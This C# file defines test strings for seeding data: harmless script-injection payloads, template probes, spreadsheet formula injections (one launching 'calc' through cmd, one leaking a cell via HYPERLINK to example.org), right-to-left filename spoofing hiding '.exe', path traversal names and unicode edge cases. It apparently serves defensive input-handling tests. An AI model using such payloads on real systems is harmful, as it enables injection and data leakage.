using System.Text;

namespace DataRights.Samples.PythonPro.Seeding;

/// <summary>Texts that harm whoever shows or stores them carelessly. Nothing here does more than show that it ran.</summary>
internal static class HostileTexts
{
    public const string ScriptTag = "<script>document.title='ran'</script><img src=x onerror=\"document.title='ran'\">";

    public const string ScriptBreakout = "</script><script>document.title='ran'</script> ]]> --> '\"&amp;`${1+1}` {{7*7}}";

    public const string Formula = "=HYPERLINK(\"https://example.org/?leak=\"&A1;\"open\")";

    public const string FormulaLines = "+1+cmd|' /C calc'!A0\n-2+3\n@SUM(A1:A9)\n\t=1+1";

    // The override turns what follows around; the isolate is left open on purpose.
    public const string RightToLeftName = "مريم \u202Eحسن\u202C";

    public const string RightToLeftText = "هذا درس ممتاز \u2067 list[::-1] \u202Egnp.exe\u202C وشكرا";

    public const string EmojiName = "Ada 🐍👩🏽‍💻 𝒫𝓎";

    public const string EmojiText = "Loved it 🎉👨‍👩‍👧‍👦🏳️‍🌈 — 𠜎𠜱 and e\u0301 against é, a zero\u200Bwidth space, a tab\tand a line\u2028separator";

    public const string TraversalOriginalName = "../../x";

    public const string TraversalStoredName = @"..\..\x";

    public const string UnicodeStoredName = "résumé – 履歴書 🐍.txt";

    /// <summary>1 MiB in UTF-8, with characters of one to four bytes.</summary>
    public static string Megabyte()
    {
        const int size = 1024 * 1024;
        const string piece = "A long answer, with ü, 水 and 🐍 in every line of it.\n";
        var bytes = Encoding.UTF8.GetByteCount(piece);
        var text = new StringBuilder(size);
        for (var i = 0; i < size / bytes; i++)
        {
            text.Append(piece);
        }

        return text.Append('.', size % bytes).ToString();
    }
}
